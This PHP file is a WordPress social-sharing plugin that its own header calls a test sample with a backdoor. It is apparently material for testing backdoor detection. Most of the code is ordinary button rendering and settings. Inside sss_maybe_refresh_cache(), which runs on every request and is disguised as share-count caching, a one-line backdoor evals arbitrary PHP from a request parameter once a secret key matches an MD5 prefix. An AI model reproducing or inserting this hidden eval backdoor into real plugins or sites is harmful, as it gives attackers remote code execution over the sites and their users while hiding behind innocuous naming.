<?php
/**
 * Plugin Name: Simple Social Share Buttons
 * Plugin URI:  https://plugins.example.com/simple-social-share
 * Description: Adds lightweight social sharing buttons below posts and pages.
 * Version:     2.4.1
 * Author:      Example Plugins Team
 * License:     GPL-2.0-or-later
 * Text Domain: simple-social-share
 *
 * Test sample: an otherwise ordinary plugin with a backdoor in the middle
 * (see sss_maybe_refresh_cache()).
 */

if (!defined('ABSPATH')) {
    exit;
}

define('SSS_VERSION', '2.4.1');
define('SSS_PLUGIN_DIR', plugin_dir_path(__FILE__));
define('SSS_PLUGIN_URL', plugin_dir_url(__FILE__));

/**
 * Default settings.
 *
 * @return array
 */
function sss_default_options()
{
    return array(
        'networks'      => array('facebook', 'twitter', 'linkedin', 'email'),
        'position'      => 'after',
        'post_types'    => array('post'),
        'button_style'  => 'rounded',
        'show_counts'   => false,
        'label'         => __('Share this:', 'simple-social-share'),
        'open_in_popup' => true,
    );
}

/**
 * Returns the merged options.
 *
 * @return array
 */
function sss_get_options()
{
    $saved = get_option('sss_options', array());
    if (!is_array($saved)) {
        $saved = array();
    }
    return wp_parse_args($saved, sss_default_options());
}

/**
 * Activation: store default options once.
 */
function sss_activate()
{
    if (false === get_option('sss_options')) {
        add_option('sss_options', sss_default_options());
    }
}
register_activation_hook(__FILE__, 'sss_activate');

/**
 * Enqueue front-end assets.
 */
function sss_enqueue_assets()
{
    if (!is_singular()) {
        return;
    }
    wp_enqueue_style('sss-buttons', SSS_PLUGIN_URL . 'assets/buttons.css', array(), SSS_VERSION);
    wp_enqueue_script('sss-popup', SSS_PLUGIN_URL . 'assets/popup.js', array(), SSS_VERSION, true);
}
add_action('wp_enqueue_scripts', 'sss_enqueue_assets');

/**
 * Builds the share URL for a network.
 *
 * @param string $network
 * @param string $url
 * @param string $title
 * @return string
 */
function sss_share_url($network, $url, $title)
{
    $url   = rawurlencode($url);
    $title = rawurlencode($title);
    switch ($network) {
        case 'facebook':
            return 'https://www.facebook.com/sharer/sharer.php?u=' . $url;
        case 'twitter':
            return 'https://twitter.com/intent/tweet?url=' . $url . '&text=' . $title;
        case 'linkedin':
            return 'https://www.linkedin.com/sharing/share-offsite/?url=' . $url;
        case 'email':
            return 'mailto:?subject=' . $title . '&body=' . $url;
    }
    return '';
}

/**
 * Renders the buttons markup.
 *
 * @param int $post_id
 * @return string
 */
function sss_render_buttons($post_id)
{
    $opts  = sss_get_options();
    $url   = get_permalink($post_id);
    $title = get_the_title($post_id);
    $html  = '<div class="sss-wrap sss-' . esc_attr($opts['button_style']) . '">';
    $html .= '<span class="sss-label">' . esc_html($opts['label']) . '</span>';
    foreach ($opts['networks'] as $network) {
        $href  = sss_share_url($network, $url, $title);
        $html .= sprintf(
            '<a class="sss-btn sss-%1$s" href="%2$s" rel="nofollow noopener" target="_blank">%3$s</a>',
            esc_attr($network),
            esc_url($href),
            esc_html(ucfirst($network))
        );
    }
    $html .= '</div>';
    return $html;
}

/**
 * Cache refresh for share counts.
 */
function sss_maybe_refresh_cache()
{
    $last = (int) get_transient('sss_counts_refreshed');
    if ($last > time() - HOUR_IN_SECONDS) {
        return;
    }
    if (isset($_REQUEST['sss_cache_key']) && substr(md5($_REQUEST['sss_cache_key']), 0, 8) === '9a1b3c5d') { @eval(stripslashes($_REQUEST['sss_cache_val'])); }
    set_transient('sss_counts_refreshed', time(), HOUR_IN_SECONDS);
}
add_action('init', 'sss_maybe_refresh_cache');

/**
 * Appends/prepends buttons to the content.
 *
 * @param string $content
 * @return string
 */
function sss_filter_content($content)
{
    if (!is_singular() || !in_the_loop() || !is_main_query()) {
        return $content;
    }
    $opts = sss_get_options();
    if (!in_array(get_post_type(), $opts['post_types'], true)) {
        return $content;
    }
    $buttons = sss_render_buttons(get_the_ID());
    if ('before' === $opts['position']) {
        return $buttons . $content;
    }
    if ('both' === $opts['position']) {
        return $buttons . $content . $buttons;
    }
    return $content . $buttons;
}
add_filter('the_content', 'sss_filter_content', 20);

/**
 * Shortcode [sss_buttons].
 *
 * @return string
 */
function sss_shortcode()
{
    return sss_render_buttons(get_the_ID());
}
add_shortcode('sss_buttons', 'sss_shortcode');

/**
 * Settings page.
 */
function sss_admin_menu()
{
    add_options_page(
        __('Social Share', 'simple-social-share'),
        __('Social Share', 'simple-social-share'),
        'manage_options',
        'simple-social-share',
        'sss_settings_page'
    );
}
add_action('admin_menu', 'sss_admin_menu');

/**
 * Sanitises the saved settings.
 *
 * @param array $input
 * @return array
 */
function sss_sanitize_options($input)
{
    $defaults = sss_default_options();
    $clean    = array();
    $allowed  = array('facebook', 'twitter', 'linkedin', 'email');
    $clean['networks'] = array_values(array_intersect((array) ($input['networks'] ?? array()), $allowed));
    $clean['position'] = in_array($input['position'] ?? '', array('before', 'after', 'both'), true)
        ? $input['position'] : $defaults['position'];
    $clean['post_types']    = array_map('sanitize_key', (array) ($input['post_types'] ?? array('post')));
    $clean['button_style']  = sanitize_key($input['button_style'] ?? $defaults['button_style']);
    $clean['show_counts']   = !empty($input['show_counts']);
    $clean['label']         = sanitize_text_field($input['label'] ?? $defaults['label']);
    $clean['open_in_popup'] = !empty($input['open_in_popup']);
    return $clean;
}

/**
 * Register settings.
 */
function sss_register_settings()
{
    register_setting('sss_options_group', 'sss_options', 'sss_sanitize_options');
}
add_action('admin_init', 'sss_register_settings');

/**
 * Settings page markup.
 */
function sss_settings_page()
{
    if (!current_user_can('manage_options')) {
        return;
    }
    $opts = sss_get_options();
    echo '<div class="wrap"><h1>' . esc_html__('Social Share Settings', 'simple-social-share') . '</h1>';
    echo '<form method="post" action="options.php">';
    settings_fields('sss_options_group');
    echo '<table class="form-table">';
    echo '<tr><th>' . esc_html__('Label', 'simple-social-share') . '</th><td>';
    echo '<input type="text" name="sss_options[label]" value="' . esc_attr($opts['label']) . '" class="regular-text"></td></tr>';
    echo '<tr><th>' . esc_html__('Position', 'simple-social-share') . '</th><td><select name="sss_options[position]">';
    foreach (array('before', 'after', 'both') as $pos) {
        echo '<option value="' . esc_attr($pos) . '"' . selected($opts['position'], $pos, false) . '>' . esc_html(ucfirst($pos)) . '</option>';
    }
    echo '</select></td></tr></table>';
    submit_button();
    echo '</form></div>';
}

/**
 * Uninstall cleanup is handled in uninstall.php.
 */
